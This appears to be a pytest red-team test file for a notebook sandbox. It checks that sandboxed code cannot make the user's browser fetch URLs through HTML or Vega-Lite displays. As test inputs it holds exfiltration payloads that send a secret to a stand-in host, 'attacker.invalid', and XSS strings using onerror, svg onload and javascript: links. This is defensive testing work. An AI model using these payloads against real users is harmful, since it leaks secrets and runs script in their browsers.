"""Red team: what a hostile sandbox can make the user's browser do through its displays.

The sandbox has no network, but its rich outputs are rendered in the user's
browser, which has. An output that makes the browser fetch a URL carries data
out of the sandbox (``<img src="https://attacker/?d=SECRET">``, a Vega-Lite
spec whose data, image or link is a URL). Run in real bwrap sandboxes.
"""

from __future__ import annotations

import json
import re
import textwrap
from pathlib import Path
from typing import Any

import pytest

from securenb.core.policy import IsolationPolicy
from securenb.isolation.detect import check_bwrap
from securenb.isolation.secrets import Redactor
from securenb.isolation.spec import build_spec
from securenb.isolation.subkernel import SubKernel

pytestmark = pytest.mark.skipif(not check_bwrap().available, reason=check_bwrap().detail)

_URL = re.compile(r"(?i)(https?:|ftp:|//attacker|attacker\.invalid)")


def _shown(tmp_path: Path, code: str) -> list[tuple[str, dict[str, Any]]]:
    kernel = SubKernel(build_spec(IsolationPolicy(), workdir=tmp_path, backend="bwrap"), {})
    kernel.start()
    shown: list[tuple[str, dict[str, Any]]] = []
    try:
        reply, _, _ = kernel.run(textwrap.dedent(code),
                                 lambda kind, content: shown.append((kind, content)),
                                 Redactor({}), 60)
    finally:
        kernel.shutdown(now=True)
    assert reply.status == "ok", reply
    return [(k, c) for k, c in shown if k != "stream"]


def test_sandbox_html_cannot_make_the_browser_fetch_a_url(tmp_path: Path) -> None:
    """Crossed on the first version: nh3's defaults keep remote ``<img src>``."""
    shown = _shown(tmp_path, """
        from IPython.display import HTML, display
        secret = "s3cr3t"
        display(HTML(f'<img src="https://attacker.invalid/leak?d={secret}"><b>chart</b>'))
        display(HTML(f'<img src="//attacker.invalid/leak?d={secret}">'))
        display(HTML(f'<img src="/files/leak?d={secret}">'))
        display(HTML('<a href="data:text/html,<script>alert(1)</script>">d</a>'))
        display(HTML('<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">'))
    """)
    html = " ".join(c["data"].get("text/html", "") for _, c in shown)
    assert "<b>chart</b>" in html and 'alt="inline"' in html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html  # inline images still show
    assert not _URL.search(html), html
    assert "/files/leak" not in html and "data:text/html" not in html


@pytest.mark.parametrize("spec", [
    {"data": {"url": "https://attacker.invalid/leak?d=s3cr3t"}, "mark": "point"},
    {"data": {"values": [{"u": "https://attacker.invalid/x.png"}]}, "mark": "image",
     "encoding": {"url": {"field": "u"}}},
    {"data": {"values": [{"a": 1}]}, "mark": {"type": "point", "href": "https://attacker.invalid",
                                              "cursor": "url(https://attacker.invalid/c), auto"}},
    {"data": {"values": [{"a": 1}]}, "mark": "point",
     "usermeta": {"embedOptions": {"loader": {"baseURL": "https://attacker.invalid/"}}}},
], ids=["data-url", "image-mark", "href-cursor", "embed-options"])
def test_sandbox_vega_lite_cannot_load_a_url(tmp_path: Path, spec: dict[str, Any]) -> None:
    """Crossed on the first version: Vega-Lite specs crossed whole, and the browser's Vega
    loads their data, images and cursors from anywhere."""
    shown = _shown(tmp_path, f"""
        import json
        from IPython.display import display
        display({{"application/vnd.vegalite.v5+json": json.loads({json.dumps(spec)!r}),
                  "text/plain": "chart"}}, raw=True)
    """)
    datas = [c["data"] for _, c in shown]
    assert datas and not any("application/vnd.vegalite.v5+json" in d for d in datas), datas
    assert not _URL.search(json.dumps(datas))


def test_a_plain_vega_lite_chart_still_crosses(tmp_path: Path) -> None:
    spec = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"values": [{"a": 1, "b": 2}]}, "mark": "bar",
            "encoding": {"x": {"field": "a"}, "y": {"field": "b"}}}
    shown = _shown(tmp_path, f"""
        import json
        from IPython.display import display
        display({{"application/vnd.vegalite.v5+json": json.loads({json.dumps(spec)!r})}}, raw=True)
    """)
    assert [c["data"]["application/vnd.vegalite.v5+json"] for _, c in shown] == [spec]


def test_mime_type_variants_do_not_slip_past_the_allowlist(tmp_path: Path) -> None:
    """Held: case variants and parameters are other types, withheld as such."""
    shown = _shown(tmp_path, """
        from IPython.display import display
        display({"TEXT/HTML": "<script>alert(1)</script>",
                 "text/html; charset=utf-8": "<img src=x onerror=alert(2)>",
                 "text/html ": "<script>alert(3)</script>",
                 "image/svg+xml": "<svg onload=alert(4)></svg>",
                 "text/markdown": "[x](javascript:alert(5))"}, raw=True)
    """)
    (_kind, content), = shown
    assert set(content["data"]) == {"text/plain"}
    assert "withheld" in content["data"]["text/plain"]
    assert "alert" not in json.dumps(content)
